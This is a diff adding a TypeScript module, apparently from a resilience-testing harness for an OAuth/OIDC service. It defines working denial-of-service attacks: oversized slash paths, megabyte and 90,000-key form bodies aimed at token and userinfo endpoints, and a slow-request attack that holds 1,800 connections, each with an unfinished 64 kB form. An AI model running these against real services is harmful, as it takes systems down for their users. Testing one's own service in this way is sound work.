@@ -1,0 +1,118 @@
+import { setMaxListeners } from 'node:events';
+import { connect } from 'node:net';
+import { setTimeout as pause } from 'node:timers/promises';
+import type { Attack, Attacking } from '../attack.js';
+import type { Shot } from '../caller.js';
+
+const formType = { 'content-type': 'application/x-www-form-urlencoded' };
+
+const places = [
+  '/oauth/v2/token',
+  '/oauth/v2/introspect',
+  '/oauth/v2/revoke',
+  '/oidc/v1/userinfo',
+  '/nothing',
+];
+
+const manyKeys = Array.from({ length: 90_000 }, (_, n) => n.toString(36)).join('&');
+
+/** Longer ones end at the balancer. Shorter ones reach the API process. */
+const texts = ['+'.repeat(1_000_000), manyKeys, '+'.repeat(65_000), manyKeys.slice(0, 65_000)];
+
+const shots: readonly Shot[] = [
+  { method: 'GET', path: '/'.repeat(31_000) },
+  { method: 'GET', path: '/'.repeat(8_100) },
+  { method: 'GET', path: `/scim/v2${'/'.repeat(8_000)}` },
+  ...texts.flatMap((body) => places.map((path) => ({ method: 'POST', path, headers: formType, body }))),
+];
+
+const connections = 6;
+
+export const costlyForms: Attack = {
+  name: 'A3 paths and forms',
+  sends: `${connections} connections, each with 49 requests in 10 s: 31,000 and 8,100 slashes; 1 MB and 65 kB of plus signs and keys at 5 addresses`,
+  reached: ['400', '404', '413', '414'],
+  // An address with more than 600 refused requests in a minute gets 429.
+  possible: ['401', '429'],
+  start: async () => async (attacking) => {
+    let turn = 0;
+    const one = () =>
+      attacking.rounds(10_000 / 49, async () => {
+        const shot = shots[turn++ % shots.length];
+        if (shot !== undefined) await attacking.send(shot);
+      });
+    await Promise.all(Array.from({ length: connections }, one));
+  },
+};
+
+const heldConnections = 1_800;
+/** A connection that has ended is opened again this long after it was opened. */
+const reopenMs = 10_000;
+
+/** These take a form. Others answer before its end. */
+const formPlaces = places.filter((place) => place !== '/nothing');
+
+/** Keeps as many connections open as the attack has. Each sends a form without its end. */
+async function holdForms(attacking: Attacking, url: string): Promise<void> {
+  const { target, addresses, ended } = attacking;
+  setMaxListeners(0, ended);
+  const connections = Math.ceil(heldConnections * target.part);
+  const each = Array.from({ length: connections }, async (_, n) => {
+    // They come one after another, within a second.
+    await pause((n * 1000) / connections);
+    const place = formPlaces[n % formPlaces.length] ?? '/';
+    const address = addresses[n % addresses.length] ?? '';
+    await attacking.rounds(reopenMs, () => holdForm(attacking, { url, place, address }));
+  });
+  await Promise.all(each);
+}
+
+/** Sends nearly all of a form. Resolves when the connection ends, or the phase does. */
+function holdForm(
+  { ended, count }: Attacking,
+  { url, place, address }: { url: string; place: string; address: string },
+): Promise<void> {
+  const { hostname, port } = new URL(url);
+  return new Promise((done) => {
+    const socket = connect({ host: hostname, port: Number(port), localAddress: address });
+    const end = () => socket.destroy();
+    ended.addEventListener('abort', end);
+    socket.on('error', () => undefined);
+    socket.once('close', () => {
+      ended.removeEventListener('abort', end);
+      done();
+    });
+    socket.once('data', (chunk: Buffer) => {
+      count(chunk.toString('latin1').split(' ', 2)[1] ?? 'broken');
+      end();
+    });
+    const head = [
+      `POST ${place} HTTP/1.1`,
+      `Host: ${hostname}`,
+      `Content-Type: ${formType['content-type']}`,
+      'Content-Length: 65000',
+      '',
+      '',
+    ];
+    socket.write(head.join('\r\n') + 'a'.repeat(64_000), () => count('held'));
+  });
+}
+
+const held = '1,800 connections from 10 addresses, each with 64 of 65 kB of a form, again every 10 s';
+
+export const heldAtIngress: Attack = {
+  name: 'A3 unfinished forms, shipped Ingress',
+  sends: held,
+  reached: ['held'],
+  possible: ['408'],
+  start: async () => (attacking) => holdForms(attacking, attacking.target.url),
+};
+
+export const heldAtProcess: Attack = {
+  name: 'A3 unfinished forms, a balancer that streams',
+  sends: held,
+  reached: ['held', '503'],
+  // A process ends a form that is late without a response, which is 502 at the balancer.
+  possible: ['502'],
+  start: async () => (attacking) => holdForms(attacking, attacking.target.streamingUrl),
+};
